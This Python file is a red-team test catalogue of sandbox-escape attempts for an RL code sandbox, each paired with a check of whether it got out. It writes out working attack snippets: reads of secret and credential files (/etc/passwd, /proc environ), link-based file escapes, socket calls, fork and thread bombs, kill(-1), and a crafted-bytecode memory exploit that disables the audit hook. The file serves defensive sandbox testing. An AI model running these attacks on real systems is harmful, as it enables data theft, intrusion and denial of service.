"""The red-team catalogue: programs that try to get out of ``rlkit.sandbox``, and how to tell.

Each :class:`Attack` is a program (a template filled with the targets of :class:`Targets`) and a
verdict: ``escaped(result, targets)`` looks at what actually happened outside the sandbox (a host
file written, a listener that got a connection, a victim process gone, a secret in the output),
not at what the program says about itself, except for facts only the inside can report (a child
process that ran, bytes that fit on the disk). ``kernel_layer`` names the part of the kernel
boundary that holds it when the audit hook is off; ``tests/test_sandbox_redteam.py`` runs every
attack with the full sandbox, with the kernel boundary alone and with the hook alone.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from typing import Callable

from rlkit.sandbox import SandboxResult


@dataclass
class Targets:
    """What the attacks aim at, made by the test on this machine."""

    secret: str  # a value no program should ever print
    secret_file: str  # a host file holding it
    secret_dir: str  # the host folder holding secret_file (its listing is secret too)
    victim_file: str  # a host file attacks try to delete, chmod or overwrite
    outside_file: str  # a host path attacks try to create
    project_file: str  # a file of this project
    tcp_port: int  # a listener on 127.0.0.1
    udp_port: int  # a UDP socket on 127.0.0.1
    unix_path: str  # a listening AF_UNIX socket on the host
    victim_pid: int  # a process attacks try to signal
    worker_pid: int  # the process running the sandbox (the reward worker)

    def fill(self, code: str) -> str:
        return code.replace("{{", "\x00").replace("}}", "\x01").format(**self.__dict__).replace(
            "\x00", "{").replace("\x01", "}")


@dataclass
class Attack:
    name: str
    category: str
    code: str
    escaped: Callable[[SandboxResult, Targets, dict], bool]  # dict: what the test saw outside
    kernel_layer: str  # what holds it without the hook


def printed(marker: str) -> Callable[[SandboxResult, Targets, dict], bool]:
    return lambda result, targets, seen: marker in result.stdout


def secret_shown(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return targets.secret in result.stdout + result.stderr


def file_appeared(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return os.path.exists(targets.outside_file)


def victim_changed(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return not os.path.exists(targets.victim_file) or (os.stat(targets.victim_file).st_mode & 0o777) != 0o600


def listing_shown(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return os.path.basename(targets.secret_file) in result.stdout


def connected(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return seen["tcp"] or seen["udp"] or seen["unix"]


def victim_killed(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return not seen["victim_alive"]


def worker_killed(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return not seen["worker_alive"]


def not_stopped_in_time(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return result.ok or result.duration_s > seen["timeout_s"] + 5


def output_not_capped(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    return len(result.stdout) + len(result.stderr) > seen["max_output_bytes"]


def disk_not_capped(result: SandboxResult, targets: Targets, seen: dict) -> bool:
    lines = [line for line in result.stdout.splitlines() if line.startswith("WROTE ")]
    return bool(lines) and int(lines[-1].split()[1]) > seen["disk_bytes"]


# crafted bytecode: LOAD_CONST with an index past the end of co_consts (a release build checks no
# bounds) returns a pointer read from memory the program controls, here a forged bytearray over
# the whole address space. With it the program rewrites the audit hook's table of refused events
# in place (the child's _PREFIXES), then opens a TCP connection the hook would have refused.
FORGED_MEMORY = '''
import socket, struct, sys, types, os
def forge(address):
    cell = struct.pack("<Q", address)
    for _ in range(1000):
        consts = (None,)
        keep = [bytes(cell) for _ in range(64)]
        for c in keep:
            offset = id(c) + 32 - (id(consts) + 24)
            if 0 < offset < 2**34 and offset % 8 == 0:
                index = offset // 8
                ops = [151, 0] + sum(([144, (index >> s) & 0xFF] for s in (24, 16, 8)), []) + [100, index & 0xFF, 83, 0]
                code = (lambda: None).__code__.replace(co_code=bytes(ops), co_consts=consts)
                return types.FunctionType(code, {{}})(), keep, consts
fake = bytes(struct.pack("<qqqqqqq", 2**40, id(bytearray), 2**62, 2**62, 0, 0, 0))
memory, keep, consts = forge(id(fake) + 32)
never = ("never-an-event.", "nothing")
table = sys.modules["__main__"]._PREFIXES
for i in range(len(table)):
    memory[id(table) + 24 + 8 * i: id(table) + 32 + 8 * i] = struct.pack("<Q", id(never))
try:
    socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2).sendall(b"ESCAPED")
    print("CONNECTED", flush=True)
except OSError as exc:
    print("REFUSED", exc, flush=True)
os._exit(1)  # the forged object must never be freed
'''

ATTACKS = [
    # the file system
    Attack("read a host file", "files", "print(open({secret_file!r}).read())", secret_shown, "mount namespace"),
    Attack("list a host folder", "files", "import os; print(os.listdir({secret_dir!r}))", listing_shown,
           "mount namespace"),
    Attack("read /etc/passwd", "files", "print(open('/etc/passwd').read()[:200])",
           printed("root:"), "mount namespace"),
    Attack("read the project's files", "files", "print(open({project_file!r}).read()[:300])",
           printed("[project]"), "mount namespace"),
    Attack("write a file outside the work dir", "files", "open({outside_file!r}, 'w').write('x')", file_appeared,
           "mount namespace"),
    Attack("delete a host file", "files", "import os; os.remove({victim_file!r})", victim_changed, "mount namespace"),
    Attack("chmod a host file", "files", "import os; os.chmod({victim_file!r}, 0o777)", victim_changed,
           "mount namespace"),
    Attack("symlink out of the work dir", "files",
           "import os; os.symlink({secret_file!r}, 'link'); print(open('link').read())", secret_shown,
           "mount namespace"),
    Attack("hard link out of the work dir", "files",
           "import os; os.link({secret_file!r}, 'link'); print(open('link').read())", secret_shown, "mount namespace"),
    Attack("a relative path through a dir_fd", "files",
           "import os; d = os.open('/', os.O_RDONLY)\n"
           "f = os.open({secret_file!r}.lstrip('/'), os.O_RDONLY, dir_fd=d); print(os.read(f, 100).decode())",
           secret_shown, "mount namespace"),
    Attack("mknod recovered by re-importing posix", "tampering",
           "import sys, stat\ndel sys.modules['posix']\nimport posix\n"
           "posix.mknod({outside_file!r}, stat.S_IFREG | 0o600)", file_appeared, "mount namespace"),
    Attack("a 48 MB disk bomb in 6 MB files", "resources",
           "total = 0\ntry:\n    for i in range(8):\n        open(f'f{{i}}', 'wb').write(b'x' * 6_000_000)\n"
           "        total += 6_000_000\nfinally:\n    print('WROTE', total)", disk_not_capped, "tmpfs quota"),
    # secrets and other processes
    Attack("environment secrets", "secrets", "import os; print(dict(os.environ))", secret_shown,
           "scrubbed environment"),
    Attack("/proc/self/environ", "secrets", "print(open('/proc/self/environ').read())", secret_shown,
           "scrubbed environment"),
    Attack("the worker's /proc/PID/environ", "secrets", "print(open('/proc/{worker_pid}/environ').read())",
           secret_shown, "PID namespace"),
    Attack("list the machine's processes", "secrets", "import os; print(' '.join(os.listdir('/proc')) + ' ')",
           lambda r, t, s: f" {t.worker_pid} " in " " + r.stdout, "PID namespace"),
    # the network
    Attack("TCP to a local listener", "network",
           "import socket; socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2).sendall(b'x')",
           connected, "seccomp (AF_INET), network namespace"),
    Attack("UDP to a local socket", "network",
           "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp_port}))",
           connected, "seccomp (AF_INET), network namespace"),
    Attack("a raw socket", "network",
           "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('RAW', s)",
           printed("RAW"), "seccomp (AF_INET)"),
    Attack("an AF_NETLINK socket", "network",
           "import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('NETLINK', s)",
           printed("NETLINK"), "seccomp (AF_NETLINK)"),
    Attack("an AF_UNIX socket on the host", "network",
           "import socket; s = socket.socket(socket.AF_UNIX); s.connect({unix_path!r}); s.sendall(b'x')",
           connected, "mount namespace, seccomp (connect)"),
    Attack("a name lookup", "network", "import socket; print('RESOLVED', socket.getaddrinfo('localhost', 80))",
           printed("RESOLVED"), "seccomp (AF_INET), no /etc"),
    # processes
    Attack("os.fork", "processes", "import os\nif os.fork() == 0:\n    print('SPAWNED', flush=True)",
           printed("SPAWNED"), "seccomp (clone)"),
    Attack("subprocess.run", "processes",
           "import subprocess; print(subprocess.run(['/bin/echo', 'SPAWNED'], capture_output=True).stdout)",
           printed("SPAWNED"), "seccomp (clone, execve)"),
    Attack("os.system", "processes", "import os; os.system('echo SPAWNED')", printed("SPAWNED"),
           "seccomp (clone, execve)"),
    Attack("os.execv", "processes", "import os, sys; os.execv(sys.executable, [sys.executable, '-c', "
           "'print(\"SPAWNED\")'])", printed("SPAWNED"), "seccomp (execve)"),
    Attack("os.posix_spawn", "processes", "import os, sys; os.posix_spawn(sys.executable, [sys.executable, '-c', "
           "'print(\"SPAWNED\")'], {{}}); import time; time.sleep(0.5)", printed("SPAWNED"),
           "seccomp (clone, execve)"),
    Attack("_posixsubprocess.fork_exec", "processes",
           "import _posixsubprocess, os, sys\nr, w = os.pipe()\n_posixsubprocess.fork_exec([sys.executable, '-c', "
           "'print(\"SPAWNED\")'], [sys.executable.encode()], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, "
           "True, False, None, None, None, -1, None, False)\nimport time; time.sleep(0.5)",
           printed("SPAWNED"), "seccomp (clone, execve)"),
    Attack("a fork bomb", "processes",
           "import os\nfor _ in range(64):\n    if os.fork() == 0:\n        print('SPAWNED', flush=True)",
           printed("SPAWNED"), "seccomp (clone)"),
    Attack("fork through ctypes", "native code",
           "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.fork() == 0:\n    print('SPAWNED', flush=True)",
           printed("SPAWNED"), "seccomp (clone)"),
    Attack("system() through ctypes", "native code", "import ctypes; ctypes.CDLL(None).system(b'echo SPAWNED')",
           printed("SPAWNED"), "seccomp (clone, execve)"),
    Attack("cffi", "native code", "import cffi; ffi = cffi.FFI(); print('CFFI', ffi.dlopen(None).system)",
           printed("CFFI"), "no site-packages"),
    Attack("crafted bytecode past the hook", "interpreter", FORGED_MEMORY, connected,
           "seccomp (AF_INET), network namespace"),
    Attack("a crashing code object", "interpreter",
           "import types\ncode = (lambda: None).__code__.replace(co_code=bytes([151, 0, 144, 255, 144, 255, 100, 255, "
           "83, 0]), co_consts=())\ntypes.FunctionType(code, {{}})()", lambda r, t, s: not s["worker_alive"],
           "its own process only"),
    Attack("builtins tampering", "tampering",
           "import builtins\nbuiltins.type = lambda x: str\nbuiltins.isinstance = lambda *a: True\n"
           "open({outside_file!r}, 'w').write('x')", file_appeared, "mount namespace"),
    Attack("sys.modules tampering", "tampering",
           "import sys, types\nsys.modules['os'] = types.SimpleNamespace()\nimport io\n"
           "io.FileIO({outside_file!r}, 'w').write(b'x')", file_appeared, "mount namespace"),
    # signals
    Attack("SIGKILL another process", "signals", "import os; os.kill({victim_pid}, 9)", victim_killed,
           "PID namespace"),
    Attack("SIGKILL the reward worker", "signals", "import os; os.kill({worker_pid}, 9); os.kill(os.getppid(), 9)",
           worker_killed, "PID namespace"),
    Attack("kill(-1) every process", "signals", "import os; os.kill(-1, 9)",
           lambda r, t, s: not (s["victim_alive"] and s["worker_alive"]), "PID namespace"),
    # resources
    Attack("a 10 GB allocation", "resources", "x = bytearray(10 * 2**30); print('ALLOCATED')", printed("ALLOCATED"),
           "rlimit (address space)"),
    Attack("huge output", "resources", "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)",
           output_not_capped, "output cap (parent)"),
    Attack("an infinite loop", "resources", "while True:\n    pass", not_stopped_in_time, "rlimit (CPU), wall clock"),
    Attack("sleeping past the deadline", "resources", "import time; time.sleep(600)", not_stopped_in_time,
           "wall clock (parent)"),
    Attack("a thread bomb", "resources",
           "import threading, time\nthreads = []\nfor _ in range(10_000):\n"
           "    t = threading.Thread(target=time.sleep, args=(600,)); t.start(); threads.append(t)\n"
           "print('THREADS', len(threads))", printed("THREADS 10000"), "cgroup (tasks), rlimit (address space), wall clock"),
]
